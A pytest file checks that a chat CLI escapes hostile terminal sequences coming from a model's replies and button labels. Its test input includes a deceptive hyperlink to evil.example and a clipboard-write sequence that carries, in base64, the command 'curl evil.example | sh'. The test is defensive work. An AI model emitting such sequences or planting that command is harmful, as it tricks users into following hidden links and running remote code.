"""`benchgen chat`: a hostile model's escape sequences never reach the terminal raw."""

from __future__ import annotations

import pytest
from typer.testing import CliRunner

from benchgen.agent import brains
from benchgen.cli import app
from tests.agent.scripted import Script
from tests.support import World

pytestmark = pytest.mark.usefixtures("cli_env")

# Recolouring, an OSC 8 hyperlink whose words hide where it goes, an OSC 52 clipboard write,
# the one-byte CSI, a bell and a title change.
HOSTILE = (
    "\x1b[2J\x1b[31mred\x1b[0m \x1b]8;;https://evil.example/\x1b\\/settings/tokens\x1b]8;;\x1b\\ "
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 \x9b31m \x1b]0;pwned\x07"
)


def test_escape_sequences_in_replies_and_buttons_are_shown_by_code(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    asking = ("ask_user", {"question": "Which?", "options": ["\x1b]52;c;ZXZpbA==\x07one"]})
    brain = Script([HOSTILE, [asking]]).brain()
    monkeypatch.setattr(brains, "configured_brain", lambda settings: brain)
    world.user("ana@example.com")
    chat = ["chat", "--as", "ana@example.com", "-m", "hi", "-m", "which?"]
    result = CliRunner().invoke(app, chat, env={"COLUMNS": "400"})
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x9b" not in result.output
    assert "\x07" not in result.output
    assert "\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007" in result.output
    assert "\\u001b]8;;https://evil.example/\\u001b\\/settings/tokens" in result.output
    assert "1. \\u001b]52;c;ZXZpbA==\\u0007one" in result.output
